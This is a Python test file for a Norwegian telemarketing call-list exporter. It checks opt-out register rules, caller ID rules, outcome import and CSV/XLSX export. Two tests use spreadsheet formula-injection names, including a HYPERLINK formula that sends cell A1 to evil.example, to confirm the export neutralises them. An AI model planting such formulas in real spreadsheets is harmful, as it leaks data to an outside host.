"""Call lists: the send path hands recipients to the list, `outreach calllist export`
writes a CSV the call centre opens in Excel, `outreach calllist outcomes` brings the
no's back into the ledger (TP-1..TP-7, ALL-6). SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import dramatiq
import pytest
from sqlalchemy import select, update

from campaigns import campaign as campaign_mod
from campaigns import launch as launch_mod
from campaigns.calllist import XLSX_HEADER
from campaigns.campaign_schema import campaigns, recipients
from campaigns.schema import contacts
from suppression.calendar import CALLING_HOURS_TEXT
from suppression.identity import email_identity, normalise_phone
from suppression.keys import Hasher
from suppression.ledger import OBJECTION, Ledger
from suppression.register import load_snapshot
from tests.clock import working_morning
from tests.conftest import ORG_NAME, ORG_NUMBER, SECRET, Cli
from tests.factories import add_person
from worker import actors, settings
from worker.context import Context
from worker.output import EXIT_INPUT_REFUSED, EXIT_REFUSED

# The call list is built, handed out and called on a working morning (TP-5); the register
# snapshot must be fresh then, in the same calendar month (TP-2).
pytestmark = [pytest.mark.integration, pytest.mark.travel]


PUBLIC_URL = "https://outreach.example.no"
CALLER_ID = "22 12 34 56"  # an Oslo landline
TEMPLATE = (
    "Samtale fra {{ organisation.name }}. {{ source_notice }} Avmelding: {{ unsubscribe_url }}"
)
EMAIL = (
    "Subject: Tilbud\n{{ organisation.name }} {{ source_notice }} Avmelding: {{ unsubscribe_url }}"
)
LISTED = 7  # person 7 is in Reservasjonsregisteret
# When the campaign is launched, handed to the call list and exported: the worker, the
# commands and the test take their time from clocks that start here.
LAUNCH = working_morning()
TODAY = LAUNCH.date()  # the launch's day in Oslo


def phone(n: int) -> str:
    return normalise_phone(f"4{n:07d}").e164


@pytest.fixture
def ctx(store_url: str, tmp_path: Path) -> Iterator[Context]:
    s = settings.load(
        DATABASE_URL=store_url,
        OUTREACH_SECRET_KEY=SECRET,
        OUTREACH_ORGANISATION_NAME=ORG_NAME,
        OUTREACH_ORGANISATION_NUMBER=ORG_NUMBER,
        OUTREACH_PUBLIC_URL=PUBLIC_URL,
        OUTREACH_OUTBOX_DIR=str(tmp_path / "outbox"),
        OUTREACH_DEMO_NOW=LAUNCH.isoformat(),
    )
    context = Context(s)
    actors.configure(context)
    yield context
    context.engine.dispose()


@pytest.fixture
def cli(ctx: Context, store_url: str) -> Cli:
    runner = Cli(store_url)
    runner.env["OUTREACH_PUBLIC_URL"] = PUBLIC_URL
    runner.env["OUTREACH_DEMO_NOW"] = LAUNCH.isoformat()
    return runner


def load_register(ctx: Context, tmp_path: Path, *listed: int, age_days: int = 0) -> None:
    path = tmp_path / f"register-{len(listed)}-{age_days}.csv"
    path.write_text(
        # The register is never empty: someone outside every audience is always in it.
        "telefon;reservasjon\n+4799999999;begge\n"
        + "".join(f"{phone(n)};telefon\n" for n in listed),
        encoding="utf-8",
    )
    day = TODAY - timedelta(days=age_days)
    with ctx.engine.begin() as conn:
        load_snapshot(conn, ctx.hasher, path, day, now=ctx.clock())


def call_campaign(
    ctx: Context,
    hasher: Hasher,
    worker: dramatiq.Worker | None,
    people: int = 6,
    caller_id: str = CALLER_ID,
) -> int:
    """Person 0 is a customer, the others partner leads; launched at LAUNCH and, with a
    worker, handed to the call list."""
    with ctx.engine.begin() as conn:
        for n in range(people):
            add_person(
                conn, hasher, n, customer={"product_categories": "alarm"} if n == 0 else None
            )
        camp = campaign_mod.create(
            conn, name="Ringeliste", channel="call", purpose="alarm", template_text=TEMPLATE,
            organisation_name=ORG_NAME, sender=campaign_mod.Sender(caller_id=caller_id), batch_size=4,
            now=ctx.clock(),
        )  # fmt: skip
        launch_mod.launch(conn, ctx.hasher, ctx.policy, camp.id, now=ctx.clock())
        numbers = launch_mod.batches_to_enqueue(conn, camp.id)
    if worker is not None:
        for n in numbers:
            actors.enqueue_batch(camp.id, n)
        actors.broker.join("sends")
        worker.join()
    return camp.id


def export(cli: Cli, campaign_id: int, out: Path) -> tuple[list[str], list[dict[str, str]]]:
    result = cli("calllist", "export", str(campaign_id), "--out", str(out))
    assert result.exit_code == 0, result.output
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM: Excel reads æøå right
    text = raw[3:].decode("utf-8")
    assert text.count("\r\n") == text.count("\n")  # CRLF only
    reader = csv.reader(io.StringIO(text, newline=""), delimiter=";")
    header, *body = list(reader)
    return header, [dict(zip(header, row, strict=True)) for row in body]


def outcomes_file(path: Path, rows: list[tuple[str, ...]]) -> Path:
    path.write_bytes(
        b"\xef\xbb\xbf"
        + "\r\n".join(";".join(r) for r in [("referanse", "utfall", "notat"), *rows]).encode()
    )
    return path


def test_a_call_campaign_puts_its_recipients_on_the_call_list_without_contacting_them(
    ctx: Context, hasher: Hasher, worker: dramatiq.Worker, cli: Cli, tmp_path: Path
) -> None:
    """Issue 19, point 2: on the list is `listed`, not `sent`: no one is contacted before
    the list is exported (no sent_at, no first contact), and status says so."""
    load_register(ctx, tmp_path, LISTED, 0)  # person 0 is listed too, but a customer (TP-3)
    campaign_id = call_campaign(ctx, hasher, worker, people=8)

    with ctx.engine.connect() as conn:
        found = conn.execute(
            select(
                recipients.c.state, recipients.c.provider_id, recipients.c.rule,
                recipients.c.sent_at, contacts.c.first_contacted_at,
            )
            .join(contacts, contacts.c.id == recipients.c.contact_id)
            .where(recipients.c.campaign_id == campaign_id)
        ).all()  # fmt: skip
    listed = [r for r in found if r.state == "listed"]
    assert len(listed) == 7 and {r.provider_id for r in listed} == {f"calllist:{campaign_id}"}
    assert {(r.sent_at, r.first_contacted_at) for r in listed} == {(None, None)}
    assert [r.rule for r in found if r.state == "excluded"] == ["TP-1"]
    status = json.loads(cli("campaign", "status", str(campaign_id), "--json").output)
    assert (status["states"]["listed"], status["states"]["sent"]) == (7, 0)
    text = cli("campaign", "status", str(campaign_id)).output
    assert "listed 7" in text and "sent" not in text.split(":", 1)[1].split("\n")[0]


def test_the_export_hands_the_listed_over_and_they_count_as_contacted_from_then(
    ctx: Context, hasher: Hasher, worker: dramatiq.Worker, cli: Cli, tmp_path: Path
) -> None:
    """ALL-8 counts a call-list contact when it is exported, not at launch: a list never
    exported takes nothing from the person's frequency cap."""
    load_register(ctx, tmp_path)
    campaign_id = call_campaign(ctx, hasher, worker, people=3)
    capped = ctx.policy.__class__(organisation_name=ORG_NAME, frequency_cap=1)
    with ctx.engine.begin() as conn:
        email = campaign_mod.create(
            conn, name="Epost", channel="email", purpose="alarm", template_text=EMAIL,
            organisation_name=ORG_NAME, now=ctx.clock(),
        )  # fmt: skip

    def capped_by_all8() -> int:
        with ctx.engine.connect() as conn:
            summary = launch_mod.preview(conn, hasher, capped, email.id, now=ctx.clock())
        return sum(n for (_, rule), n in summary.by_decision.items() if rule == "ALL-8")

    before = capped_by_all8()
    first = cli("calllist", "export", str(campaign_id), "--out", str(tmp_path / "a.csv"), "--json")
    again = cli("calllist", "export", str(campaign_id), "--out", str(tmp_path / "b.csv"), "--json")

    assert before == 0
    assert json.loads(first.output)["handed_over_now"] == 3
    assert json.loads(again.output)["handed_over_now"] == 0  # the same people, handed before
    assert json.loads(again.output)["rows"] == 3
    assert capped_by_all8() == 3
    with ctx.engine.connect() as conn:
        states = conn.execute(
            select(recipients.c.state, recipients.c.sent_at).where(
                recipients.c.campaign_id == campaign_id
            )
        ).all()
    assert {s for s, _ in states} == {"sent"} and all(at is not None for _, at in states)


def test_the_export_is_a_csv_excel_opens_with_the_legal_basis_and_the_calling_hours(
    ctx: Context, hasher: Hasher, worker: dramatiq.Worker, cli: Cli, tmp_path: Path
) -> None:
    load_register(ctx, tmp_path, LISTED, 0)
    campaign_id = call_campaign(ctx, hasher, worker, people=8)

    header, rows = export(cli, campaign_id, tmp_path / "liste.csv")

    assert header == [
        "reference", "name", "phone", "legal_basis", "calling_hours", "unsubscribe_link",
        "register_snapshot_date",
    ]  # fmt: skip
    assert len(rows) == 7
    by_phone = {r["phone"]: r for r in rows}
    assert "'" + phone(LISTED) not in by_phone
    # An E.164 number starts with "+", which a spreadsheet reads as a formula.
    assert by_phone["'" + phone(0)]["legal_basis"] == "TP-3 customer_exception"
    assert by_phone["'" + phone(1)]["legal_basis"] == "TP-1 not_in_register"
    today = TODAY.isoformat()
    for row in rows:
        assert re.fullmatch(r"K\d+-[A-Z2-7]{16}", row["reference"])
        assert row["calling_hours"] == CALLING_HOURS_TEXT
        assert row["unsubscribe_link"].startswith(f"{PUBLIC_URL}/u/")
        assert row["register_snapshot_date"] == today
    assert by_phone["'" + phone(1)]["name"] == "Ola1 Nordmann"


def test_a_formula_looking_name_is_neutralised_in_the_call_list(
    ctx: Context, hasher: Hasher, worker: dramatiq.Worker, cli: Cli, tmp_path: Path
) -> None:
    load_register(ctx, tmp_path)
    names = {
        1: '=HYPERLINK("http://evil.example/?x="&A1;"Ring meg")',
        2: "+47 ring nå",
        3: "-2+3",
        4: "@SUM(1;2)",
        5: "\tTab",
    }
    with ctx.engine.begin() as conn:
        for n in range(6):
            add_person(conn, hasher, n)
        for n, name in names.items():
            conn.execute(
                update(contacts)
                .where(contacts.c.phone == phone(n))
                .values(first_name=name, last_name=None)
            )
    campaign_id = _launch_existing(ctx, worker)

    _, rows = export(cli, campaign_id, tmp_path / "liste.csv")

    by_phone = {r["phone"].lstrip("'"): r["name"] for r in rows}
    for n, name in names.items():
        assert by_phone[phone(n)] == "'" + name
    assert by_phone[phone(0)] == "Ola0 Nordmann"
    assert all(r["phone"].startswith("'+47") for r in rows)


@pytest.mark.parametrize("age_days", [None, 40])
def test_a_call_campaign_is_refused_at_create_without_a_fresh_register_snapshot(
    ctx: Context, hasher: Hasher, cli: Cli, tmp_path: Path, age_days: int | None
) -> None:
    """TP-2 before anyone is counted (issue 19, point 2): no snapshot, or one older than
    30 days, and the draft is not made (the export would refuse it)."""
    if age_days is not None:
        load_register(ctx, tmp_path, age_days=age_days)
    template = tmp_path / "ring.txt"
    template.write_text(TEMPLATE, encoding="utf-8")

    result = cli(
        "campaign", "create", "--name", "Ring", "--channel", "call", "--purpose", "alarm",
        "--template", str(template), "--caller-id", CALLER_ID,
    )  # fmt: skip

    assert result.exit_code == EXIT_REFUSED, result.output
    assert "TP-2" in result.output and "register load" in result.output
    with ctx.engine.connect() as conn:
        assert conn.execute(select(campaigns.c.id)).first() is None


def test_the_export_refuses_when_the_snapshot_has_gone_stale_since_launch(
    ctx: Context, hasher: Hasher, worker: dramatiq.Worker, cli: Cli, tmp_path: Path
) -> None:
    """TP-2 at export: a list launched on a fresh snapshot is not written 40 days later,
    and no one on it is handed over."""
    load_register(ctx, tmp_path)
    campaign_id = call_campaign(ctx, hasher, worker)
    out = tmp_path / "liste.csv"
    cli.env["OUTREACH_DEMO_NOW"] = (LAUNCH + timedelta(days=40)).isoformat()

    result = cli("calllist", "export", str(campaign_id), "--out", str(out))

    assert result.exit_code == EXIT_REFUSED
    assert "TP-2" in result.output and not out.exists()
    with ctx.engine.connect() as conn:
        states = conn.execute(
            select(recipients.c.state).where(recipients.c.campaign_id == campaign_id)
        ).scalars()
        assert set(states) == {"listed"}


@pytest.mark.parametrize("caller_id", ["", "skjult", "41234567", "+47 912 34 567"])
def test_the_export_refuses_a_hidden_or_mobile_caller_id(
    ctx: Context, hasher: Hasher, worker: dramatiq.Worker, cli: Cli, tmp_path: Path, caller_id: str
) -> None:
    """TP-6: the number shown must be shown, and not an 8-digit Norwegian mobile. Create
    and launch refuse such a campaign (test_campaign_checks); the export still checks,
    for a campaign whose caller id changed since (or made before those checks)."""
    load_register(ctx, tmp_path)
    campaign_id = call_campaign(ctx, hasher, worker)
    with ctx.engine.begin() as conn:
        conn.execute(
            update(campaigns)
            .where(campaigns.c.id == campaign_id)
            .values(sender=campaign_mod.Sender(caller_id=caller_id).to_json())
        )
    out = tmp_path / "liste.csv"

    result = cli("calllist", "export", str(campaign_id), "--out", str(out))

    assert result.exit_code == EXIT_REFUSED
    assert "TP-6" in result.output and not out.exists()


def test_an_objection_from_the_call_centre_is_recorded_once_and_the_next_list_excludes_it(
    ctx: Context, hasher: Hasher, worker: dramatiq.Worker, cli: Cli, tmp_path: Path
) -> None:
    """TP-7 and ALL-1: the outcomes become ledger entries at once; importing the same
    file twice changes nothing; the next export leaves those people out."""
    load_register(ctx, tmp_path)
    campaign_id = call_campaign(ctx, hasher, worker)
    _, first = export(cli, campaign_id, tmp_path / "liste.csv")
    ref = {r["phone"].lstrip("'"): r["reference"] for r in first}
    results = outcomes_file(
        tmp_path / "utfall.csv",
        [
            (ref[phone(1)], "objection", "Vil ikke ha reklame"),
            (ref[phone(2)], "reservert", "Ikke ring meg igjen"),
            (ref[phone(3)], "wrong_number", ""),
            (ref[phone(4)], "reached", "Takket nei"),
            (ref[phone(5)], "no_answer", ""),
        ],
    )

    once = cli("calllist", "outcomes", str(results), "--json")
    twice = cli("calllist", "outcomes", str(results), "--json")
    _, second = export(cli, campaign_id, tmp_path / "liste2.csv")

    assert once.exit_code == 0, once.output
    assert json.loads(once.output)["recorded"] == 3
    again = json.loads(twice.output)
    assert (again["recorded"], again["already_recorded"]) == (0, 3)
    assert sorted(r["phone"].lstrip("'") for r in second) == [phone(0), phone(4), phone(5)]
    with ctx.engine.connect() as conn:
        ledger = Ledger(conn, hasher)
        [objection] = ledger.status("phone", phone(1)).entries
        [reserved] = ledger.status("phone", phone(2)).entries
        # A wrong number is no one's no: it leaves the contact instead (test_wrong_number).
        assert ledger.status("phone", phone(3)).entries == []
        kept = select(contacts.c.phone).where(contacts.c.email == "ola3@example.com")
        assert conn.execute(kept).scalar_one() is None
    assert (objection.scope, objection.reason, objection.source) == (
        "all",
        OBJECTION,
        "call_centre",
    )
    assert (reserved.scope, reserved.reason) == ("phone", "unsubscribe")
    # ALL-1: the objection stops email too; "reservert" stops calls only.
    assert cli("suppress", "check", "--email", "ola1@example.com").exit_code == 1
    assert cli("suppress", "check", "--email", "ola2@example.com").exit_code == 0


def test_bad_outcome_rows_are_reported_by_row_and_field_and_good_rows_are_kept(
    ctx: Context, hasher: Hasher, worker: dramatiq.Worker, cli: Cli, tmp_path: Path
) -> None:
    load_register(ctx, tmp_path)
    campaign_id = call_campaign(ctx, hasher, worker)
    _, rows = export(cli, campaign_id, tmp_path / "liste.csv")
    ref = {r["phone"].lstrip("'"): r["reference"] for r in rows}
    path = tmp_path / "utfall.csv"
    path.write_text(
        "reference;outcome;note;time\n"
        "K1-AAAAAAAAAAAAAAAA;objection;;\n"  # line 2: looks right, is no one
        f"{ref[phone(1)]};kanskje;;\n"  # line 3: no such outcome
        f"{ref[phone(2)]};Innsigelse;;{LAUNCH:%Y-%m-%dT%H:%M}\n"  # line 4: good (Norwegian word)
        f"{ref[phone(3)]};reservert;;i går\n"  # line 5: good, time unreadable
        "ikke-en-referanse;reached;;\n",  # line 6: not a reference
        encoding="utf-8",
    )

    result = cli("calllist", "outcomes", str(path), "--json")

    assert result.exit_code == EXIT_INPUT_REFUSED
    report = json.loads(result.output[: result.output.rindex("}") + 1])
    assert report["recorded"] == 2
    assert sorted((e["row"], e["field"]) for e in report["errors"]) == [
        (2, "reference"), (3, "outcome"), (6, "reference"),
    ]  # fmt: skip
    assert [(w["row"], w["field"]) for w in report["warnings"]] == [(5, "time")]
    assert cli("suppress", "check", "--phone", phone(2), "--channel", "phone").exit_code == 1
    assert cli("suppress", "check", "--phone", phone(3), "--channel", "phone").exit_code == 1
    assert cli("suppress", "check", "--phone", phone(1), "--channel", "phone").exit_code == 0


def test_someone_who_opted_out_or_joined_the_register_after_launch_is_left_out(
    ctx: Context, hasher: Hasher, worker: dramatiq.Worker, cli: Cli, tmp_path: Path
) -> None:
    """ALL-6 at export time: the ledger and the newest register snapshot are checked
    again; people handed to the list earlier are not called after a no."""
    load_register(ctx, tmp_path)
    campaign_id = call_campaign(ctx, hasher, worker)
    load_register(ctx, tmp_path, 3)  # a new snapshot: person 3 reserved since launch
    with ctx.engine.begin() as conn:
        Ledger(conn, hasher).add(
            hasher.hash(email_identity("ola4@example.com")), "email",
            scope="all", reason=OBJECTION, source="test", now=ctx.clock(),
        )  # fmt: skip

    result = cli("calllist", "export", str(campaign_id), "--out", str(tmp_path / "l.csv"), "--json")

    assert result.exit_code == 0, result.output
    summary = json.loads(result.output)
    assert summary["rows"] == 4 and summary["left_out"] == {"TP-1": 1, "ALL-1": 1}
    assert summary["register_snapshot_date"] == TODAY.isoformat()


def _launch_existing(ctx: Context, worker: dramatiq.Worker) -> int:
    with ctx.engine.begin() as conn:
        camp = campaign_mod.create(
            conn, name="Ringeliste", channel="call", purpose="alarm", template_text=TEMPLATE,
            organisation_name=ORG_NAME, sender=campaign_mod.Sender(caller_id=CALLER_ID),
            now=ctx.clock(),
        )  # fmt: skip
        launch_mod.launch(conn, ctx.hasher, ctx.policy, camp.id, now=ctx.clock())
        numbers = launch_mod.batches_to_enqueue(conn, camp.id)
    for n in numbers:
        actors.enqueue_batch(camp.id, n)
    actors.broker.join("sends")
    worker.join()
    return camp.id


def workbook_rows(path: Path) -> list[list[Any]]:
    """Every cell of the workbook's sheet, read back with openpyxl."""
    from openpyxl import load_workbook

    with path.open("rb") as raw:  # by content: a workbook may have any name (--format)
        book = load_workbook(raw)
    return [list(row) for row in book.worksheets[0].iter_rows()]


@pytest.mark.parametrize(
    "how", [("--out", "ringeliste.xlsx"), ("--out", "liste", "--format", "xlsx")]
)
def test_the_call_list_as_a_workbook_has_text_cells_norwegian_headers_address_and_script(
    ctx: Context,
    hasher: Hasher,
    worker: dramatiq.Worker,
    cli: Cli,
    tmp_path: Path,
    how: tuple[str, ...],
) -> None:
    """Issue 19, point 10: Excel keeps the apostrophe a CSV needs in front of "+47...";
    a workbook's cells typed as text need none, and nothing in them runs as a formula."""
    load_register(ctx, tmp_path)
    formula = '=HYPERLINK("http://evil.example/?x="&A1;"Ring meg")'
    with ctx.engine.begin() as conn:
        for n in range(4):
            add_person(conn, hasher, n)
        conn.execute(
            update(contacts).where(contacts.c.phone == phone(1)).values(first_name=formula)
        )
    campaign_id = _launch_existing(ctx, worker)
    out = tmp_path / how[1]

    result = cli("calllist", "export", str(campaign_id), "--out", str(out), *how[2:], "--json")

    assert result.exit_code == 0, result.output
    assert json.loads(result.output)["format"] == "xlsx"
    header, *body = workbook_rows(out)
    assert [c.value for c in header] == list(XLSX_HEADER)
    assert XLSX_HEADER[:3] == ("Referanse", "Navn", "Telefon")
    assert len(body) == 4
    cells = [c for row in (header, *body) for c in row]
    assert {c.data_type for c in cells} == {"s"}  # text: no formula, no number
    assert not any(str(c.value).startswith("'") for c in cells)
    by_phone = {
        row[2].value: {h: c.value for h, c in zip(XLSX_HEADER, row, strict=True)} for row in body
    }
    assert set(by_phone) == {phone(n) for n in range(4)}  # "+47..." as written, no apostrophe
    assert by_phone[phone(1)]["Navn"] == formula + " Nordmann"  # stays text
    two = by_phone[phone(2)]
    assert (two["Adresse"], two["Postnummer"], two["Poststed"]) == ("Storgata 2", "2155", "Oslo")
    assert two["Rettslig grunnlag"] == "TP-1 not_in_register"
    assert two["Ringetider"] == CALLING_HOURS_TEXT
    assert two["Registerutdrag (dato)"] == TODAY.isoformat()
    script = str(two["Manus"])
    assert script.startswith(f"Samtale fra {ORG_NAME}.")  # the template, rendered
    assert "Partner A" in script  # GD-1: where we got the number
    assert script.endswith(str(two["Avmeldingslenke"]))
    assert re.fullmatch(r"K\d+-[A-Z2-7]{16}", str(two["Referanse"]))


def test_the_workbook_and_the_csv_list_the_same_people(
    ctx: Context, hasher: Hasher, worker: dramatiq.Worker, cli: Cli, tmp_path: Path
) -> None:
    load_register(ctx, tmp_path)
    campaign_id = call_campaign(ctx, hasher, worker)

    _, rows = export(cli, campaign_id, tmp_path / "liste.csv")
    assert (
        cli("calllist", "export", str(campaign_id), "--out", str(tmp_path / "l.xlsx")).exit_code
        == 0
    )

    _, *body = workbook_rows(tmp_path / "l.xlsx")
    assert sorted((r["reference"], r["phone"].lstrip("'")) for r in rows) == sorted(
        (row[0].value, row[2].value) for row in body
    )


def test_forget_removes_the_person_from_a_call_list_workbook(
    ctx: Context, hasher: Hasher, worker: dramatiq.Worker, cli: Cli, tmp_path: Path
) -> None:
    """GD-5: erasure reaches the workbook too, as it does the CSV (campaigns.filetraces)."""
    load_register(ctx, tmp_path)
    campaign_id = call_campaign(ctx, hasher, worker, people=3)
    out = tmp_path / "ringeliste.xlsx"
    assert cli("calllist", "export", str(campaign_id), "--out", str(out)).exit_code == 0

    forgotten = cli("forget", "--phone", phone(1))

    assert forgotten.exit_code == 0, forgotten.output
    _, *body = workbook_rows(out)
    assert sorted(row[2].value for row in body) == [phone(0), phone(2)]
    assert {c.data_type for row in body for c in row} == {"s"}
